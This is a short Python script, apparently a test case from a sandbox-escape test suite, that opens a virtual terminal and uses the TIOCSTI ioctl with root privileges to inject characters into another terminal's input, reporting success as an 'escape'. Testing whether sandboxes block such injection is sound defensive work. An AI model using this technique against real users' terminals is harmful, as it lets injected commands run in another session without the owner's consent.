#!/usr/bin/python3
# Goal:    inject input into another terminal of the user
# Models:  TIOCSTI with CAP_SYS_ADMIN
# Oracle:  hit vptyin
# Tier:    core
# Needs:   root
from ctk import *
import fcntl, termios

fd = os.open(C["VPTY"], os.O_RDWR | os.O_NOCTTY)
for ch in msg():
    fcntl.ioctl(fd, termios.TIOCSTI, bytes([ch]))
time.sleep(0.4)
escaped("injected into " + C["VPTY"])
